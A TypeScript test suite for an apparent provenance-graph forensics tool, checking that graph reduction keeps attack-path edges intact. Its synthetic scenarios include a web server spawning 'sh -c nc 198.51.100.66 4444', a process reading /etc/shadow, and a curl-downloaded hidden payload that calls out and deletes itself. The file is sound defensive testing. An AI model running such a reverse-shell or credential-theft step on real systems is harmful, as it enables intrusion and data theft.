/**
 * Reduction: CPR merges only what causality allows, noise and fan-out fold only pure sources/sinks, unit
 * partitioning cuts a daemon's other requests, and no stage removes an edge on the attack path.
 */
import { describe, expect, test } from 'bun:test';
import { buildStore } from '../build.ts';
import { graphFromEvents } from '../index.ts';
import type { ProvenanceGraph } from '../model.ts';
import { mergeRuns, type CprMode } from '../reduce/cpr.ts';
import { collapseNoise, NOISE_DEFAULTS } from '../reduce/noise.ts';
import { EventFactory, syntheticWorkload, type ProcRef } from '../synthetic.ts';
import { parseTimestamp } from '../time.ts';
import { connected, edgeNames, edges, labelOf, node, nodeLabels } from './helpers.ts';

/** Number of edges the F→P read group becomes. */
function readRuns(build: (f: EventFactory, p: ProcRef) => void, mode: CprMode): number {
  const f = new EventFactory();
  const shell = f.running(100, '/usr/bin/bash');
  const p = f.spawn(shell, 101, '/usr/bin/app');
  build(f, p);
  const store = buildStore(f.events);
  return mergeRuns([...store.steps.values()], mode).filter((run) => run[0]!.kind === 'read' && run[0]!.source.endsWith(':/data/f')).length;
}

describe('CPR merge', () => {
  test('repeated reads with nothing in between merge into one edge', () => {
    expect(readRuns((f, p) => [1, 2, 3, 4, 5].forEach(() => f.read(p, '/data/f')), 'causal')).toBe(1);
    expect(readRuns((f, p) => [1, 2, 3, 4, 5].forEach(() => f.read(p, '/data/f')), 'off')).toBe(5);
  });

  test('an output of the reader in between blocks the merge (the second read may explain what follows it)', () => {
    const n = readRuns((f, p) => {
      f.read(p, '/data/f');
      f.write(p, '/data/g');
      f.read(p, '/data/f');
    }, 'causal');
    expect(n).toBe(2);
  });

  test('a change to the file in between blocks the merge (the second read carries new content)', () => {
    const n = readRuns((f, p) => {
      f.read(p, '/data/f');
      const q = f.spawn(f.running(300, '/usr/bin/bash'), 301, '/usr/bin/editor');
      f.write(q, '/data/f');
      f.read(p, '/data/f');
    }, 'causal');
    expect(n).toBe(2);
  });

  test('an unrelated input in between does not block a causal merge, but does block a strict one', () => {
    const build = (f: EventFactory, p: ProcRef) => {
      f.read(p, '/data/f');
      f.read(p, '/data/h');
      f.read(p, '/data/f');
    };
    expect(readRuns(build, 'causal')).toBe(1);
    expect(readRuns(build, 'strict')).toBe(2);
  });

  test('an aggregated step overlapping the gap interleaves', () => {
    const n = readRuns((f, p) => {
      const t0 = f.time;
      f.read(p, '/data/f');
      f.wait(10);
      f.read(p, '/data/f');
      // a write by p whose io window covers the gap between the two reads, reported later
      f.wait(10);
      f.write(p, '/data/g', 10, { start: new Date(parseTimestamp(t0) + 2).toISOString(), end: f.time });
    }, 'causal');
    expect(n).toBe(2);
  });
});

describe('noise collapse and fan-out', () => {
  function noisy(): { f: EventFactory; p: ProcRef } {
    const f = new EventFactory();
    const shell = f.running(100, '/usr/bin/bash');
    const p = f.spawn(shell, 101, '/usr/bin/app');
    for (const lib of ['libc.so.6', 'libm.so.6', 'libssl.so.3']) f.readFile(p, `/usr/lib/x86_64-linux-gnu/${lib}`);
    f.readFile(p, '/usr/share/locale/de/LC_MESSAGES/app.mo');
    f.readFile(p, '/usr/share/fonts/truetype/dejavu/DejaVuSans.ttf');
    f.readFile(p, '/etc/app.conf');
    f.readFile(p, '/proc/self/status');
    f.write(p, '/dev/null', 10);
    for (let i = 0; i < 12; i++) f.writeFile(p, `/srv/out/cache/${i}/blob`, 100);
    f.wait(5000);
    f.readFile(p, '/etc/late.conf'); // long after start-up: not start-up configuration
    f.connect(p, '198.51.100.7', 443);
    return { f, p };
  }

  test('libraries, locale, fonts, pseudo-files and start-up configuration fold into summary nodes', async () => {
    const { f, p } = noisy();
    const g = await graphFromEvents(f.events, { poi: `process:${p.entityId}`, direction: 'both' });
    const summaries = g.nodes.filter((n) => n.summary).map((n) => n.label).sort();
    expect(summaries).toEqual([
      '/proc, /sys and /dev (1 file)',
      '/proc, /sys and /dev (1 file)',
      '12 files under /srv/out/cache/…',
      'configuration read at start-up (1 file)',
      'fonts (1 file)',
      'locale and time-zone data (1 file)',
      'shared libraries (3 files)',
    ]);
    expect(nodeLabels(g)).toContain('/etc/late.conf');
    expect(g.stats.edges).toBeLessThan(g.stats.edges_before);
    expect(g.stats.nodes).toBeLessThan(g.stats.nodes_before);
  });

  test('a library somebody wrote is not noise', async () => {
    const f = new EventFactory();
    const shell = f.running(100, '/usr/bin/bash');
    const evil = f.spawn(shell, 101, '/usr/bin/cp');
    f.writeFile(evil, '/usr/lib/x86_64-linux-gnu/libevil.so', 100);
    const victim = f.spawn(shell, 102, '/usr/sbin/victim');
    f.readFile(victim, '/usr/lib/x86_64-linux-gnu/libevil.so');
    f.readFile(victim, '/usr/lib/x86_64-linux-gnu/libc.so.6');
    f.connect(victim, '198.51.100.7', 443);
    const g = await graphFromEvents(f.events, { poi: 'ip:198.51.100.7:443' });
    expect(nodeLabels(g)).toContain('/usr/lib/x86_64-linux-gnu/libevil.so');
    expect(nodeLabels(g)).not.toContain('/usr/lib/x86_64-linux-gnu/libc.so.6');
    expect(edges(g, 'write', 'cp[101]', '/usr/lib/x86_64-linux-gnu/libevil.so').length).toBe(1);
  });

  test('without the keep set, collapse would fold a credential read at start-up: protection is what saves it', () => {
    const f = new EventFactory();
    const shell = f.running(100, '/usr/bin/bash');
    const p = f.spawn(shell, 101, '/tmp/stealer');
    f.readFile(p, '/etc/shadow');
    const store = buildStore(f.events);
    const steps = [...store.steps.values()];
    const shadow = 'file:host-1:/etc/shadow';
    const unprotected = collapseNoise(store, steps, new Set(), NOISE_DEFAULTS);
    expect([...unprotected.summaries.values()].some((s) => s.members.includes(shadow))).toBe(true);
    const protectedRun = collapseNoise(store, steps, new Set([shadow]), NOISE_DEFAULTS);
    expect([...protectedRun.summaries.values()].some((s) => s.members.includes(shadow))).toBe(false);
  });
});

describe('unit partitioning (BEEP approximation)', () => {
  /** A web server: start-up config, three requests; request 2 spawns a shell that calls out. */
  function webServer() {
    const f = new EventFactory();
    const init = f.running(1, '/usr/lib/systemd/systemd', { name: 'systemd' });
    const web = f.spawn(init, 200, '/usr/sbin/httpd');
    f.readFile(web, '/etc/httpd/httpd.conf');
    f.listen(web, '0.0.0.0', 80);
    f.wait(1000);
    f.accept(web, '203.0.113.1', 40001, { ip: '10.0.0.2', port: 80 });
    f.readFile(web, '/var/www/one.html');
    f.wait(1000);
    f.accept(web, '203.0.113.2', 40002, { ip: '10.0.0.2', port: 80 });
    f.readFile(web, '/var/www/two.php');
    const sh = f.spawn(web, 201, '/bin/sh', ['sh', '-c', 'nc 198.51.100.66 4444']);
    f.connect(sh, '198.51.100.66', 4444);
    f.wait(1000);
    f.accept(web, '203.0.113.3', 40003, { ip: '10.0.0.2', port: 80 });
    f.readFile(web, '/var/www/three.html');
    return f;
  }

  test('a request depends on its own unit and on start-up, not on the requests before it', async () => {
    const events = webServer().events;
    const plain = await graphFromEvents(events, { poi: 'ip:198.51.100.66:4444', reduce: false });
    expect(nodeLabels(plain)).toContain('/var/www/one.html');
    expect(nodeLabels(plain)).toContain('203.0.113.1:40001');

    const g = await graphFromEvents(events, { poi: 'ip:198.51.100.66:4444' });
    const labels = nodeLabels(g);
    expect(labels).toContain('/var/www/two.php');
    expect(labels).toContain('203.0.113.2:40002');
    expect(labels).not.toContain('/var/www/one.html');
    expect(labels).not.toContain('203.0.113.1:40001');
    // never the request after
    expect(labels).not.toContain('/var/www/three.html');
    // start-up configuration is unit 0, on which every request depends (folded as start-up config)
    expect(g.nodes.find((n) => n.summary?.sample.includes('/etc/httpd/httpd.conf'))).toBeDefined();
    expect(node(g, 'httpd[200]')?.units).toEqual({ total: 4, kept: 2, by: 'accept' });
    expect(g.stats.reduction!.units_pruned_edges).toBeGreaterThan(0);
  });

  test('quiet-period units keep a re-read of a file written inside the window', async () => {
    const f = new EventFactory();
    const init = f.running(1, '/usr/lib/systemd/systemd', { name: 'systemd' });
    const cron = f.spawn(init, 300, '/usr/sbin/crond');
    f.readFile(cron, '/etc/crond.conf');
    f.wait(120_000);
    f.readFile(cron, '/opt/static-a');
    f.wait(60_000);
    const editor = f.spawn(init, 301, '/usr/bin/editor');
    f.writeFile(editor, '/opt/jobs.list', 50);
    f.wait(60_000);
    f.readFile(cron, '/opt/jobs.list');
    f.wait(120_000);
    f.readFile(cron, '/opt/static-b');
    f.wait(360_000);
    const job = f.spawn(cron, 302, '/usr/bin/job');
    f.connect(job, '198.51.100.9', 443);
    const g = await graphFromEvents(f.events, { poi: 'ip:198.51.100.9:443' });
    const labels = nodeLabels(g);
    expect(labels).toContain('/opt/jobs.list');
    expect(labels).toContain('editor[301]');
    expect(labels).not.toContain('/opt/static-a');
    expect(labels).not.toContain('/opt/static-b');
    expect(node(g, 'crond[300]')?.units?.by).toBe('quiet');
  });
});

describe('the attack path survives reduction', () => {
  const w = syntheticWorkload({ packages: 12, filesPerPackage: 20, requests: 24 });

  /** Every attack-path edge of the unreduced graph has an edge between the same two nodes covering its time. */
  function survives(before: ProvenanceGraph, after: ProvenanceGraph): string[] {
    const missing: string[] = [];
    for (const e of before.edges.filter((x) => x.attack_path)) {
      const cover = after.edges.find(
        (x) =>
          x.kind === e.kind &&
          x.source === e.source &&
          x.target === e.target &&
          parseTimestamp(x.first) <= parseTimestamp(e.first) &&
          parseTimestamp(x.last) >= parseTimestamp(e.last),
      );
      if (!cover) missing.push(`${e.kind} ${labelOf(before, e.source)} -> ${labelOf(before, e.target)} @${e.first}`);
    }
    return missing;
  }

  const curl = `curl[${w.attack!.downloader.pid}]`;
  const payload = `.x.sh[${w.attack!.payload.pid}]`;
  const rm = `rm[${w.attack!.remover.pid}]`;
  // The chain as the story wrote it, independent of how the engine marks its attack path.
  const chain = {
    backward: [`connect ${curl} -> 127.0.0.1:8000`, `write ${curl} -> /tmp/.x.sh`, `exec /tmp/.x.sh -> ${payload}`, `read /etc/shadow -> ${payload}`, `connect ${payload} -> 127.0.0.1:9999`],
    forward: [`exec /tmp/.x.sh -> ${payload}`, `connect ${payload} -> 127.0.0.1:9999`, `spawn ${payload} -> ${rm}`, `delete ${rm} -> /tmp/.x.sh`],
  };

  for (const [poi, direction] of [
    ['ip:127.0.0.1:9999', 'backward'],
    ['file:/tmp/.x.sh', 'forward'],
    ['file:/tmp/.x.sh', 'both'],
  ] as const) {
    test(`${direction} from ${poi}`, async () => {
      const before = await graphFromEvents(w.events, { poi, direction, reduce: false });
      const after = await graphFromEvents(w.events, { poi, direction });
      const expected = direction === 'both' ? [...chain.backward.slice(1), ...chain.forward] : chain[direction];
      for (const name of expected) expect(edgeNames(after)).toContain(name);
      const onPath = before.edges.filter((e) => e.attack_path);
      expect(onPath.length).toBeGreaterThan(3);
      expect(survives(before, after)).toEqual([]);
      // flagged nodes keep their own node and stay connected to the point of interest
      const poiNode = after.nodes.find((n) => n.poi)!;
      for (const n of before.nodes.filter((x) => x.flags?.some((f) => f.severity !== 'low'))) {
        const kept = after.nodes.find((x) => x.id === n.id);
        expect(kept?.label).toBe(n.label);
        const linked = direction === 'forward' ? connected(after, poiNode.id, n.id) : direction === 'backward' ? connected(after, n.id, poiNode.id) : connected(after, n.id, poiNode.id) || connected(after, poiNode.id, n.id);
        expect(linked).toBe(true);
      }
      expect(after.stats.edges).toBeLessThan(before.stats.edges);
    });
  }

  test('a package install reduces at least 5× and keeps the attack chain whole', async () => {
    const shell = w.attack!.downloader.parent!;
    const before = await graphFromEvents(w.events, { poi: `process:${shell.entityId}`, direction: 'forward', reduce: false });
    const after = await graphFromEvents(w.events, { poi: `process:${shell.entityId}`, direction: 'forward' });
    expect(after.stats.edges_before).toBe(before.stats.edges);
    expect(after.stats.edges_before / after.stats.edges).toBeGreaterThanOrEqual(5);
    expect(survives(before, after)).toEqual([]);
    for (const label of ['curl[' + w.attack!.downloader.pid + ']', '/tmp/.x.sh', '.x.sh[' + w.attack!.payload.pid + ']', '127.0.0.1:9999']) {
      expect(nodeLabels(after)).toContain(label);
    }
  });
});
